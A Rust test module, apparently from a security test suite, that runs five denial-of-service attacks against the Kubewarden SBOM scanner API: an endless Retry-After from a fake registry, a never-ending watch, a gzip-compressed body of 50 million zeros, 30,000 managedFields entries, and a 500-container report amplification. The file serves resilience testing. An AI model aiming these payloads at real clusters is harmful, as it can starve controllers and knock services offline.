//! The attacks, each by the means of one client with the rights of an editor.

use anyhow::{Context, Result, ensure};
use bytes::Bytes;
use flate2::Compression;
use flate2::write::GzEncoder;
use futures::future::BoxFuture;
use http::{Method, StatusCode};
use muster_testkit::http::{Client, Request};
use serde_json::{Value, json};
use std::io::Write;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

const JSON: &str = "application/json";
const REGISTRIES: &str = "/apis/sbomscanner.kubewarden.io/v1alpha1/namespaces/default/registries";
const STORAGE: &str = "/apis/storage.sbomscanner.kubewarden.io/v1alpha1/namespaces/default";
const IMAGES: &str = "/apis/storage.sbomscanner.kubewarden.io/v1alpha1/images";

type Prepare = fn(Client) -> BoxFuture<'static, Result<Bytes>>;
type Make = fn(Client, Bytes) -> BoxFuture<'static, Result<String>>;

pub(super) struct Attack {
    pub(super) name: &'static str,
    /// What the honest client reads meanwhile.
    pub(super) honest: &'static str,
    pub(super) is_for_storage: bool,
    pub(super) prepare: Prepare,
    pub(super) make: Make,
}

pub(super) const ATTACKS: [Attack; 5] = [
    Attack {
        name: "an endless Retry-After",
        honest: IMAGES,
        is_for_storage: false,
        prepare: |_| Box::pin(async { Ok(Bytes::new()) }),
        make: |client, _| Box::pin(retry_after(client)),
    },
    Attack {
        name: "a watch for ever",
        honest: IMAGES,
        is_for_storage: true,
        prepare: |_| Box::pin(async { Ok(Bytes::new()) }),
        make: |client, _| Box::pin(watch(client)),
    },
    Attack {
        name: "a body of 50 million zeros",
        honest: IMAGES,
        is_for_storage: true,
        prepare: |_| Box::pin(async { wide() }),
        make: |client, body| Box::pin(post_packed(client, body)),
    },
    Attack {
        name: "30 000 entries of managedFields",
        honest: IMAGES,
        is_for_storage: true,
        prepare: |_| Box::pin(async { Ok(managed()) }),
        make: |client, body| Box::pin(post(client, body)),
    },
    Attack {
        name: "500 containers on one image",
        honest: IMAGES,
        is_for_storage: true,
        prepare: |client| Box::pin(one_image(client)),
        make: |client, body| Box::pin(read_report(client, body)),
    },
];

/// A registry that answers 429 with the longest pause there is.
async fn retry_after(client: Client) -> Result<String> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let host = listener.local_addr()?.to_string();
    let (asked, mut first) = tokio::sync::mpsc::channel(1);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut head = [0; 4096];
            let _ = stream.read(&mut head).await;
            let answer = "HTTP/1.1 429 Too Many Requests\r\nretry-after: 18446744073709551615\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
            let _ = stream.write_all(answer.as_bytes()).await;
            let _ = asked.try_send(());
        }
    });
    let registry = json!({
        "apiVersion": "sbomscanner.kubewarden.io/v1alpha1", "kind": "Registry",
        "metadata": {"name": "evil"}, "spec": {"uri": host, "insecure": true},
    });
    let request = Request::new(Method::POST, REGISTRIES).body(JSON, registry.to_string())?;
    let created = client.send(request).await?;
    ensure!(created.status == StatusCode::CREATED, "{}", created.status);
    first.recv().await.context("the registry was asked")?;
    // Who still reconciles writes a condition on another Registry.
    let other = json!({
        "apiVersion": "sbomscanner.kubewarden.io/v1alpha1", "kind": "Registry",
        "metadata": {"name": "honest"}, "spec": {"uri": "127.0.0.1:1", "insecure": true},
    });
    let request = Request::new(Method::POST, REGISTRIES).body(JSON, other.to_string())?;
    client.send(request).await?;
    for _ in 0..60 {
        let read = client.get(&format!("{REGISTRIES}/honest")).await?.json()?;
        if read["status"]["conditions"].is_array() {
            return Ok("another Registry is reconciled".into());
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    Ok("NO Registry is reconciled any more".into())
}

async fn watch(client: Client) -> Result<String> {
    let target = format!("{IMAGES}?watch=1&timeoutSeconds=9223372036854775807");
    let request = Request::new(Method::GET, target);
    match tokio::time::timeout(Duration::from_secs(3), client.skim(request)).await {
        Err(_) => Ok("the watch goes on".into()),
        Ok(Ok(_)) => Ok("the watch ended".into()),
        Ok(Err(error)) => Err(error),
    }
}

fn wide() -> Result<Bytes> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    let head = r#"{"apiVersion":"storage.sbomscanner.kubewarden.io/v1alpha1","kind":"WorkloadScanReport","metadata":{"name":"a"},"spec":{"containers":[]},"x":[0"#;
    packed.write_all(head.as_bytes())?;
    let zeros = ",0".repeat(500_000);
    for _ in 0..100 {
        packed.write_all(zeros.as_bytes())?;
    }
    packed.write_all(b"]}")?;
    Ok(packed.finish()?.into())
}

async fn post_packed(client: Client, body: Bytes) -> Result<String> {
    let size = body.len();
    let request = Request::new(Method::POST, format!("{STORAGE}/workloadscanreports"));
    let request = request
        .body(JSON, body)?
        .header("content-encoding", "gzip")?;
    let answer = client.send(request).await?;
    Ok(format!("{size} bytes: {}", answer.status))
}

fn managed() -> Bytes {
    let entries: Vec<Value> = (0..30_000)
        .map(|number| {
            json!({
                "manager": format!("m{number}"), "operation": "Apply", "apiVersion": "v1",
                "fieldsType": "FieldsV1", "fieldsV1": {},
            })
        })
        .collect();
    let report = json!({
        "apiVersion": "storage.sbomscanner.kubewarden.io/v1alpha1", "kind": "WorkloadScanReport",
        "metadata": {"name": "a", "managedFields": entries}, "spec": {"containers": []},
    });
    report.to_string().into()
}

async fn post(client: Client, body: Bytes) -> Result<String> {
    let size = body.len();
    let request = Request::new(Method::POST, format!("{STORAGE}/workloadscanreports"));
    let answer = client.send(request.body(JSON, body)?).await?;
    Ok(format!("{size} bytes: {}", answer.status))
}

/// An image with two megabytes of findings, and the report of a workload with 500 containers that run it.
async fn one_image(client: Client) -> Result<Bytes> {
    let finding = |number: usize| {
        json!({
            "cve": format!("CVE-2024-{number}"), "packageName": "p", "installedVersion": "1", "severity": "HIGH",
            "title": "x".repeat(150), "suppressed": false,
        })
    };
    let found: Vec<Value> = (0..7_000).map(finding).collect();
    let metadata = json!({
        "registry": "hub", "registryURI": "hub.example", "repository": "app", "tag": "1", "platform": {"os": "linux", "architecture": "amd64"},
        "digest": format!("sha256:{}", "a".repeat(64)),
    });
    let version = "storage.sbomscanner.kubewarden.io/v1alpha1";
    let image = json!({
        "apiVersion": version, "kind": "Image", "metadata": {"name": "app"}, "imageMetadata": metadata,
    });
    let report = json!({
        "apiVersion": version, "kind": "VulnerabilityReport", "metadata": {"name": "app"},
        "imageMetadata": metadata,
        "report": {"summary": {"high": 7000}, "results": [{"target": "t", "class": "os-pkgs", "type": "debian", "vulnerabilities": found}]},
    });
    for (resource, object) in [("images", image), ("vulnerabilityreports", report)] {
        let request = Request::new(Method::POST, format!("{STORAGE}/{resource}"));
        let answer = client.send(request.body(JSON, object.to_string())?).await?;
        let text = String::from_utf8_lossy(&answer.body)
            .chars()
            .take(300)
            .collect::<String>();
        ensure!(
            answer.status == StatusCode::CREATED,
            "{resource}: {} {text}",
            answer.status
        );
    }
    let containers: Vec<Value> = (0..500)
        .map(|number| {
            json!({"name": format!("c{number}"), "imageRef": {
                "registry": "hub", "namespace": "default", "repository": "app", "tag": "1",
            }})
        })
        .collect();
    let report = json!({
        "apiVersion": version, "kind": "WorkloadScanReport", "metadata": {"name": "deployment-app"},
        "spec": {"containers": containers},
    });
    Ok(report.to_string().into())
}

async fn read_report(client: Client, body: Bytes) -> Result<String> {
    let reports = format!("{STORAGE}/workloadscanreports");
    let request = Request::new(Method::POST, reports.clone()).body(JSON, body)?;
    client.skim(request).await?;
    let size = client
        .skim(Request::new(
            Method::GET,
            format!("{reports}/deployment-app"),
        ))
        .await?;
    Ok(format!("an answer of {} MB", size / 1_000_000))
}
